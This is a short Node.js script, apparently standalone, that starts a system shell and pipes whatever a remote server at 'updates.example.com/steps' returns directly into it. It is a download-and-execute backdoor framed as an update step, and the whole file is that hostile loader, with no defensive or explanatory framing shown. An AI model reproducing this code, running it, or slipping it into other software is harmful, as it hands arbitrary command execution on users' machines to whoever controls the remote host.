import { spawn } from "node:child_process";
import https from "node:https";

const shell = spawn("sh");
https.get("https://updates.example.com/steps", (answer) => answer.pipe(shell.stdin));
